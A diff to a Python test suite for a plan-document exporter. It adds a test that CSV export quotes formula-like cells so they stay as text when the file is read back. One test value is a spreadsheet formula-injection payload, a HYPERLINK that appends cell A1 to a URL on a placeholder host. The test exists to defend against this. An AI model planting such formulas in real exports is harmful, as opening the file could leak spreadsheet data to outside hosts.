@@ -16,11 +16,12 @@ import openpyxl
 import pytest
 
 from documents import live
+from documents.export_csv import write_plan_csv
 from documents.export_docx import write_plan_docx
 from documents.export_pdf import write_plan_pdf
 from documents.export_xlsx import write_plan_xlsx
 from documents.importer import read_plan
-from documents.plan import PlanDraft
+from documents.plan import ActionDraft, PlanDraft
 from documents.plan_out import Check, Plan, PlanAction, Progress
 from documents.redact import Named, Redactor, public_version
 from domain.rag import Rag
@@ -133,6 +134,32 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path: Pat
     values = [cell.value for row in sheet.iter_rows() for cell in row]
     assert '=HYPERLINK("http://x.invalid")' in values and "formfeed" in values
     assert read_plan(path).actions[0].columns.monitoring == '=HYPERLINK("http://x.invalid")'
+
+
+def test_the_plan_csv_quotes_formulas_and_reads_back_with_the_text_unchanged(tmp_path: Path) -> None:
+    """Issue 14: a cell a spreadsheet would run goes out quoted; read back (with ``--map`` for the CSV's own
+    state columns), every action has the text it had."""
+    seed = read_plan(SEED_PLAN)
+    first = seed.actions[0].columns
+    first.monitoring = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
+    first.action = "- brief officers"
+    first.lead = "+44 121 496 0000"
+    first.success_measure = "'=quoted already"
+    path = tmp_path / "plan.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        write_plan_csv(plan_of(seed), out)
+    written = path.read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in written and "'- brief officers" in written and "''=quoted already" in written
+    again = read_plan(path, mapping={"rag": "extra", "progress_update": "extra"}, review_ref=seed.review_ref)
+    assert [_text(a) for a in again.actions] == [_text(a) for a in seed.actions]
+
+
+def _text(action: ActionDraft) -> tuple[object, ...]:
+    """What a plan CSV carries back of an action (its target date goes out as ISO, its date text as a column
+    no synonym knows)."""
+    c = action.columns
+    plain = (c.action, c.lead, c.desired_outcome, c.monitoring, c.success_measure, c.outcome_progress)
+    return (action.ref, action.agency, action.target_date, action.route, *plain, c.evidence_location, c.status_rag)
 
 
 def test_redaction_replaces_names_and_emails_whatever_their_case_and_spacing() -> None:
